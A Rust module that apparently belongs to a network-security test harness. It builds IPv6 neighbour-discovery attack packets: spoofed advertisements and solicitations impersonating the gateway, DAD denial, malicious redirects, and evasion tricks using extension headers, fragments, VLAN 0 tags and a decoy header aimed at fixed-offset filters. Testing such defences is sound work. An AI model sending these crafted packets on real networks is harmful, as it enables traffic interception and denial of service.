//! B. Neighbour discovery.

use std::net::Ipv6Addr;

use netns_fixtures::packet::{
    Advertised, BROADCAST, Extension, Frame, Icmpv6, Ipv6, MacOctets, NdOption, multicast_mac,
    solicited_node,
};

use super::craft::{OVERRIDE, Q, filler, framed, icmp6, in_pieces, na, ns, one, tag};
use crate::attack::{Attack, Moment};
use crate::scene::{ALL_NODES, ALL_ROUTERS, CANDIDATE, EVIL, Scene};
use crate::shot::Shot;

const NA: &str = "B, RFC 4861 §4.4";
const NS: &str = "B, RFC 4861 §4.3";
const CHAIN: &str = "B, RFC 6980, RFC 7113";
const DAD: &str = "B, RFC 4862 §5.4, RFC 7527";
const REDIRECT: &str = "B, RFC 4861 §4.5";
const UNSPECIFIED: Ipv6Addr = Ipv6Addr::UNSPECIFIED;

pub(super) fn attacks() -> Vec<Attack> {
    let mut all = advertisements();
    all.extend(hidden());
    all.extend(solicitations());
    all.extend(duplicates());
    all.extend(redirects());
    all
}

/// An advertisement of `target` at `mac`, from `src`, to all nodes.
fn claim(src: Ipv6Addr, target: Ipv6Addr, mac: MacOctets) -> Ipv6 {
    Ipv6::new(
        src,
        ALL_NODES,
        na(target, OVERRIDE, vec![NdOption::TargetMac(mac)]),
    )
}

/// As an answer, to one station.
fn answer(src: Ipv6Addr, to: Ipv6Addr, target: Ipv6Addr, options: Vec<NdOption>) -> Ipv6 {
    Ipv6::new(
        src,
        to,
        na(target, OVERRIDE | Advertised::SOLICITED, options),
    )
}

fn to_node(s: &Scene, packet: Ipv6) -> Vec<Shot> {
    one(Frame::new(s.me.mac, s.gateway.mac, packet))
}

fn unknown_option() -> NdOption {
    NdOption::Other {
        kind: 200,
        bytes: vec![0; 6],
    }
}

fn advertisements() -> Vec<Attack> {
    vec![
        Attack::new("na-gw-mcast", NA, |s| {
            one(framed(s, claim(s.gateway.v6, s.gateway.v6, EVIL)))
        }),
        Attack::new("na-gw-lla-mcast", NA, |s| {
            one(framed(s, claim(s.gateway.lla, s.gateway.lla, EVIL)))
        }),
        Attack::new("na-gw-ownsrc", NA, |s| {
            one(framed(s, claim(s.me.lla, s.gateway.v6, EVIL)))
        }),
        Attack::new("na-gw-ownsrc-ownmac", NA, |s| {
            one(framed(s, claim(s.me.lla, s.gateway.v6, s.me.mac)))
        }),
        Attack::new("na-gw-notlla", NA, |s| {
            let packet = answer(s.me.lla, s.v1().v6, s.gateway.lla, Vec::new());
            one(framed(s, packet))
        }),
        Attack::new("na-gw-l2bcast", "B, RFC 6085", |s| {
            one(Frame::new(
                s.me.mac,
                BROADCAST,
                claim(s.me.lla, s.gateway.v6, EVIL),
            ))
        }),
        Attack::new("na-peer", NA, |s| {
            let option = NdOption::TargetMac(s.me.mac);
            one(framed(
                s,
                answer(s.me.lla, s.v1().v6, s.v2().v6, vec![option]),
            ))
        }),
        Attack::new("na-victim-at-node", NA, |s| {
            let option = NdOption::TargetMac(s.me.mac);
            to_node(s, answer(s.me.v6, s.gateway.v6, s.v1().v6, vec![option]))
        }),
        Attack::new("na-victim-at-node-race", NA, |s| {
            let option = NdOption::TargetMac(s.me.mac);
            to_node(s, answer(s.v1().v6, s.gateway.lla, s.v1().v6, vec![option]))
        })
        .during(Moment::NodeVerifies),
        Attack::new("na-tlla-mismatch", NA, |s| {
            one(framed(s, claim(s.me.v6, s.me.v6, s.v2().mac)))
        }),
        Attack::new("na-tlla-bcast", NA, |s| {
            one(framed(s, claim(s.me.v6, s.me.v6, [0x03, 0, 0, 0, 0, 1])))
        }),
        Attack::new("na-2nd-option", NA, |s| {
            let options = vec![unknown_option(), NdOption::TargetMac(EVIL)];
            one(framed(
                s,
                Ipv6::new(s.gateway.v6, ALL_NODES, na(s.gateway.v6, OVERRIDE, options)),
            ))
        }),
        Attack::new("na-own-2nd-option", NA, |s| {
            let options = vec![unknown_option(), NdOption::TargetMac(s.v2().mac)];
            one(framed(
                s,
                Ipv6::new(s.me.v6, ALL_NODES, na(s.me.v6, OVERRIDE, options)),
            ))
        }),
        Attack::new("na-own-double-tlla", NA, |s| {
            let options = vec![
                NdOption::TargetMac(s.me.mac),
                NdOption::TargetMac(s.v2().mac),
            ];
            one(framed(
                s,
                Ipv6::new(s.me.v6, ALL_NODES, na(s.me.v6, OVERRIDE, options)),
            ))
        }),
        Attack::new("na-router-flag", "B, RFC 4861 §4.4", |s| {
            let flags = OVERRIDE | Advertised::ROUTER;
            one(framed(
                s,
                Ipv6::new(s.me.lla, s.v1().v6, na(s.gateway.lla, flags, Vec::new())),
            ))
        }),
    ]
}

fn hidden() -> Vec<Attack> {
    vec![
        Attack::new("na-hbh", CHAIN, |s| {
            one(framed(
                s,
                claim(s.me.lla, s.gateway.v6, EVIL).extended(filler(0, 1)),
            ))
        }),
        Attack::new("na-dst", CHAIN, |s| {
            one(framed(
                s,
                claim(s.me.lla, s.gateway.v6, EVIL).extended(filler(60, 1)),
            ))
        }),
        Attack::new("na-frag", CHAIN, |s| {
            let packet = claim(s.me.lla, s.gateway.v6, EVIL);
            in_pieces(s, &packet, 0, &[24], &[0, 1])
        }),
        Attack::new("na-frag-gua", CHAIN, |s| {
            let packet = answer(
                s.me.v6,
                s.v2().v6,
                s.gateway.v6,
                vec![NdOption::TargetMac(EVIL)],
            );
            in_pieces(s, &packet, 0, &[24], &[0, 1])
        }),
        Attack::new("na-frag-gua-atomic", CHAIN, |s| {
            let packet = answer(
                s.me.v6,
                s.v2().v6,
                s.gateway.v6,
                vec![NdOption::TargetMac(EVIL)],
            );
            in_pieces(s, &packet, 0, &[], &[0])
        }),
        Attack::new("na-vlan0", "B, CVE-2021-27853", |s| {
            one(framed(s, claim(s.me.lla, s.gateway.v6, EVIL)).tagged(tag(Q, 0)))
        }),
        Attack::new("na-vlan0-x2", "B, CVE-2021-27853", |s| {
            let frame = framed(s, claim(s.me.lla, s.gateway.v6, EVIL));
            one(frame.tagged(tag(Q, 0)).tagged(tag(Q, 0)))
        }),
        Attack::new("na-snap", "B, CVE-2021-27854", |s| {
            one(framed(s, claim(s.me.lla, s.gateway.v6, EVIL)).in_snap())
        }),
        Attack::new("na-dst-decoy", CHAIN, |s| one(framed(s, decoy(s)))),
    ]
}

/// Where a rule that reads at fixed offsets looks for target and option of an advertisement, there
/// stand the attacker's own, inside an options header; the advertisement behind it is of the gateway.
fn decoy(s: &Scene) -> Ipv6 {
    // From the IPv6 header: target at 48, option at 64. The options header begins at 40: one filler
    // of 32 bytes from 42 to 72, whose data at 44 is 4 bytes, the address, 2 bytes, the MAC.
    let mut bytes = vec![0x1e, 28, 0, 0, 0, 0];
    bytes.extend(s.me.v6.octets());
    bytes.extend([2, 1]);
    bytes.extend(s.me.mac);
    let header = Extension::Options {
        protocol: 60,
        bytes,
    };
    claim(s.me.v6, s.gateway.v6, EVIL).extended(header)
}

/// A solicitation of `target` by `src`, whose MAC is said to be `mac`.
fn ask(src: Ipv6Addr, to: Ipv6Addr, target: Ipv6Addr, mac: MacOctets) -> Ipv6 {
    Ipv6::new(src, to, ns(target, vec![NdOption::SourceMac(mac)]))
}

fn solicitations() -> Vec<Attack> {
    vec![
        Attack::new("ns-gw", NS, |s| {
            one(framed(
                s,
                ask(s.gateway.v6, solicited_node(s.v1().v6), s.v1().v6, EVIL),
            ))
        }),
        Attack::new("ns-peer", NS, |s| {
            one(framed(
                s,
                ask(s.v2().v6, solicited_node(s.v1().v6), s.v1().v6, EVIL),
            ))
        }),
        Attack::new("ns-mac-spoof", NS, |s| {
            let packet = ask(s.v2().v6, solicited_node(s.v1().v6), s.v1().v6, EVIL);
            one(Frame::new(EVIL, multicast_mac(packet.dst.into()), packet))
        }),
        Attack::new("ns-victim-at-node", NS, |s| {
            to_node(s, ask(s.v1().v6, s.gateway.v6, s.gateway.v6, s.me.mac))
        }),
        Attack::new("ns-slla-mismatch", NS, |s| {
            to_node(s, ask(s.me.v6, s.gateway.v6, s.gateway.v6, s.v1().mac))
        }),
        Attack::new("ns-slla-2nd", NS, |s| {
            let options = vec![unknown_option(), NdOption::SourceMac(s.v1().mac)];
            to_node(
                s,
                Ipv6::new(s.me.v6, s.gateway.v6, ns(s.gateway.v6, options)),
            )
        }),
        Attack::new("ns-tlla-as-slla", NS, |s| {
            let options = vec![
                NdOption::SourceMac(s.me.mac),
                NdOption::SourceMac(s.v1().mac),
            ];
            to_node(
                s,
                Ipv6::new(s.me.v6, s.gateway.v6, ns(s.gateway.v6, options)),
            )
        }),
        Attack::new("ns-hbh", CHAIN, |s| {
            let packet = ask(s.me.v6, s.gateway.v6, s.gateway.v6, s.v1().mac);
            to_node(s, packet.extended(filler(0, 1)))
        }),
        Attack::new("rs-slla-mismatch", "B, RFC 4861 §4.1", |s| {
            let options = vec![NdOption::SourceMac(s.v1().mac)];
            let message = Icmpv6::RouterSolicitation { options };
            to_node(s, Ipv6::new(s.me.v6, ALL_ROUTERS, message))
        }),
        Attack::new("rs-victim-at-node", "B, RFC 4861 §4.1", |s| {
            let options = vec![NdOption::SourceMac(EVIL)];
            let message = Icmpv6::RouterSolicitation { options };
            one(framed(s, Ipv6::new(s.v1().lla, ALL_ROUTERS, message)))
        }),
    ]
}

fn duplicates() -> Vec<Attack> {
    vec![
        Attack::new("dad-na", DAD, |s| {
            one(framed(s, claim(CANDIDATE, CANDIDATE, s.me.mac)))
        })
        .during(Moment::VictimProbes),
        Attack::new("dad-na-ownsrc", DAD, |s| {
            one(framed(s, claim(s.me.lla, CANDIDATE, s.me.mac)))
        })
        .during(Moment::VictimProbes),
        Attack::new("dad-ns", DAD, |s| {
            let packet = Ipv6::new(
                UNSPECIFIED,
                solicited_node(CANDIDATE),
                ns(CANDIDATE, Vec::new()),
            );
            one(framed(s, packet))
        })
        .during(Moment::VictimProbes),
        Attack::new("dad-ns-nonce", DAD, |s| {
            let options = vec![NdOption::Nonce([9, 9, 9, 9, 9, 9])];
            let packet = Ipv6::new(
                UNSPECIFIED,
                solicited_node(CANDIDATE),
                ns(CANDIDATE, options),
            );
            one(framed(s, packet))
        })
        .during(Moment::VictimProbes),
        Attack::new("dad-ns-vlan0", DAD, |s| {
            let packet = Ipv6::new(
                UNSPECIFIED,
                solicited_node(CANDIDATE),
                ns(CANDIDATE, Vec::new()),
            );
            one(framed(s, packet).tagged(tag(Q, 0)))
        })
        .during(Moment::VictimProbes),
        Attack::new("dad-node", DAD, |s| {
            one(framed(s, claim(s.me.lla, CANDIDATE, s.me.mac)))
        })
        .during(Moment::NodeProbes),
        Attack::new("dad-node-ns", DAD, |s| {
            let packet = Ipv6::new(
                UNSPECIFIED,
                solicited_node(CANDIDATE),
                ns(CANDIDATE, Vec::new()),
            );
            one(framed(s, packet))
        })
        .during(Moment::NodeProbes),
    ]
}

/// A redirect of what goes to the far host, by way of the attacker.
fn redirect(s: &Scene, src: Ipv6Addr, to: Ipv6Addr) -> Ipv6 {
    let mut bytes = vec![0; 4];
    bytes.extend(s.me.lla.octets());
    bytes.extend(s.upstream.1.octets());
    bytes.extend([2, 1]);
    bytes.extend(s.me.mac);
    Ipv6::new(src, to, icmp6(137, 0, &bytes))
}

fn redirects() -> Vec<Attack> {
    vec![
        Attack::new("redirect-gw", REDIRECT, |s| {
            one(framed(s, redirect(s, s.gateway.lla, s.v1().v6)))
        }),
        Attack::new("redirect-gw-dsthdr", REDIRECT, |s| {
            one(framed(
                s,
                redirect(s, s.gateway.lla, s.v1().v6).extended(filler(60, 1)),
            ))
        }),
        Attack::new("redirect-gw-vlan0", REDIRECT, |s| {
            one(framed(s, redirect(s, s.gateway.lla, s.v1().v6)).tagged(tag(Q, 0)))
        }),
        Attack::new("redirect-own", REDIRECT, |s| {
            one(framed(s, redirect(s, s.me.lla, s.v1().v6)))
        }),
        Attack::new("redirect-own-at-node", REDIRECT, |s| {
            to_node(s, redirect(s, s.me.lla, s.gateway.v6))
        }),
    ]
}
